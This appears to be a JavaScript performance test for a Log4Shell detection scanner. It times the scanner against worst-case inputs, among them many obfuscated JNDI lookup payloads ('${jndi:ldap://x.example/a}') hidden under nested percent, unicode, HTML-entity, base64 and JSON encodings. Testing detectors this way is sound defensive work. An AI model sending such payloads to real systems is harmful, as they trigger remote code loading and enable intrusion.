import { RecentlyRead, SourceHunt } from '../../dist/hunt/index.js'
import { huntDoors } from '../../dist/node/hunt/doors.js'

const rounds = 5
const numbers = (count, each) => Array.from({ length: count }, (_, i) => each(i)).join('')
const base64 = (text) => Buffer.from(text).toString('base64')
const wrapped = (times, wrap) => {
  let text = '${jndi:ldap://x.example/a}'
  for (let i = 0; i < times; i++) text = wrap(text)
  return text
}

/** Lines that are made to be dear. What is longer than a record of 64 KiB is read in parts; its time is told for each of them. */
const lines = {
  '40 KB of ${': '${'.repeat(20_000),
  '60 KB of %25': '%25'.repeat(20_000),
  '60 KB of %25, and a payload': `${'%25'.repeat(20_000)}24{jndi:ldap://x.example/a}`,
  '5,000 levels': `${'${'.repeat(5_000)}jndi:ldap://x.example/a${'}'.repeat(5_000)}`,
  '5,000 levels of defaults': `${'${a:-'.repeat(5_000)}jndi:ldap://x.example/a${'}'.repeat(5_000)}`,
  '64 KB of ${a:-': '${a:-'.repeat(13_000),
  '60 KB of ${a:-, closed': `${'${a:-'.repeat(10_000)}${'}'.repeat(10_000)}`,
  '60 KB of ${::-j}': '${::-j}'.repeat(8_500),
  '60 KB of $${': `${'$${'.repeat(20_000)}jndi:ldap://x.example/a}`,
  '1 MB of $': '$'.repeat(1_000_000),
  '1 MB of ${': '${'.repeat(500_000),
  '${ and 1 MB of }': `\${${'}'.repeat(1_000_000)}`,
  '10,000 lookups in a line': numbers(10_000, (i) => `\${jndi:ldap://x${i}.example/a}`),
  '10,000 templates in a line': numbers(10_000, (i) => `\${a${i}} `),
  '4,000 variables in a name': `\${jndi:ldap://${numbers(4_000, (i) => `\${env:A${i}}`)}/a}`,
  '1,200 attacks in a JSON object': JSON.stringify(
    Object.fromEntries(Array.from({ length: 1_200 }, (_, i) => [`k${i}`, `\${jndi:ldap://x${i}.example/a}`])),
  ),
  'JSON in JSON, 12 levels': wrapped(12, (text) => JSON.stringify({ a: text })),
  'JSON 5,000 deep': `${'{"a":'.repeat(5_000)}"\${jndi:ldap://x.example/a}"${'}'.repeat(5_000)}`,
  'base64 in base64, 16 levels': wrapped(16, (text) => `Authorization: Basic ${base64(text)}`),
  '2,000 Basic credentials': numbers(2_000, (i) => `Basic ${base64(`u${i}:\${`)} `),
  '60 KB of eyJ': 'eyJ'.repeat(20_000),
  '60 KB of \\u005c': `${'\\u005c'.repeat(10_000)}u0024{jndi:ldap://x.example/a}`,
  '\\ and 60 KB of u005c': `\\${'u005c'.repeat(12_000)}u0024{jndi:ldap://x.example/a}`,
  '60 KB of \\134': `${'\\134'.repeat(15_000)}044{`,
  '60 KB of backslashes': `${'\\'.repeat(60_000)}u0024{jndi:ldap://x.example/a}`,
  '60 KB of &amp;': `${'&amp;'.repeat(12_000)}#36;{jndi:ldap://x.example/a}`,
  '& and 60 KB of amp;': `&${'amp;'.repeat(15_000)}#36;{jndi:ldap://x.example/a}`,
  '&# and 60 KB of zeros': `&#${'0'.repeat(60_000)}36;{jndi:ldap://x.example/a}`,
  'percent, JSON and HTML, 4 times': wrapped(4, (text) =>
    encodeURIComponent(JSON.stringify(text).replaceAll('"', '&#34;')),
  ),
  '5,500 dates': "${date:'j'}".repeat(5_500),
  '60 KB of :- in a name': `\${${':-'.repeat(30_000)}}`,
}

const recordBytes = 65_536

/** Milliseconds of a processor for each line, the dearest first: the best of a few, since others use this machine too. */
export function worstCases() {
  const best = new Map()
  for (let round = 0; round < rounds; round++)
    for (const [name, line] of Object.entries(lines)) {
      const bytes = Buffer.from(`${line}\n`, 'latin1')
      const ms = cpuMs(bytes) / Math.max(1, bytes.length / recordBytes)
      best.set(name, Math.min(ms, best.get(name) ?? Number.POSITIVE_INFINITY))
    }
  return [...best].map(([name, ms]) => ({ name, ms })).sort((a, b) => b.ms - a.ms)
}

function cpuMs(bytes) {
  const before = process.cpuUsage()
  const sink = { finding: () => undefined, gap: () => undefined }
  const hunt = new SourceHunt(huntDoors, sink, { source: 'a', relative: 'a', around: 0 }, new RecentlyRead())
  for (let at = 0; at < bytes.length; ) {
    const room = hunt.room()
    const piece = bytes.subarray(at, at + room.length)
    room.set(piece)
    hunt.take(piece.length)
    at += piece.length
    hunt.read('more')
  }
  hunt.read('ended')
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1_000
}
